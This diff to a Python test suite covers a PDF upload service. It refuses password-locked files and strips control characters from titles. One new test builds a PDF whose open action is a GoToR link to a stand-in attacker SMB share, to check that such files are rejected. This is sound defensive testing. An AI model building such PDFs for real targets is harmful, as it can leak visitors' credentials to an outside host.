@@ -227,12 +227,13 @@ def test_upload_service_refuses_too_and_stores_nothing(settings):
 def test_encrypted_upload_is_accepted_when_the_setting_allows(settings):
     settings.DOCUMENTS_ALLOW_ENCRYPTED = True
 
-    locked = ingest(_encrypted(text_pdf()), title="Locked")
     restricted = ingest(_encrypted(text_pdf(title="Restricted"), key=""))
-
-    assert locked.page_count is None and locked.text == ""
-    assert locked.accessibility_problems[0].startswith("Needs a password to open")
     assert restricted.page_count >= 2 and "Peer support workers" in restricted.text
+
+    # One that needs a password to open cannot be checked for scripts, nor read by visitors.
+    with pytest.raises(ValidationError) as refused:
+        ingest(_encrypted(text_pdf()), title="Locked")
+    assert "needs a password to open" in str(refused.value)
 
 
 def test_office_formats_are_accepted_by_content_when_enabled(settings):
@@ -656,3 +657,29 @@ def test_demo_papers_go_through_the_upload_service():
     for document in Document.objects.all():
         assert len(document.previews) == 2 and document.page_count >= 2
         assert "No tags:" in " ".join(document.accessibility_problems)
+
+
+def test_a_link_that_opens_another_file_is_refused():
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    def go_to_remote(writer):
+        return writer._add_object(
+            DictionaryObject(
+                {
+                    NameObject("/S"): NameObject("/GoToR"),
+                    NameObject("/F"): TextStringObject("\\\\attacker\\share\\x.pdf"),
+                }
+            )
+        )
+
+    with pytest.raises(ValidationError) as refused:
+        ingest(changed_pdf(catalog={"/OpenAction": go_to_remote}))
+    assert "a link that opens another file" in str(refused.value)
+
+
+def test_control_characters_in_the_pdf_title_are_dropped():
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf())))
+    writer.add_metadata({"/Title": "Annual\x00 report\x07 2024"})
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    assert ingest(buffer.getvalue()).title == "Annual report 2024"
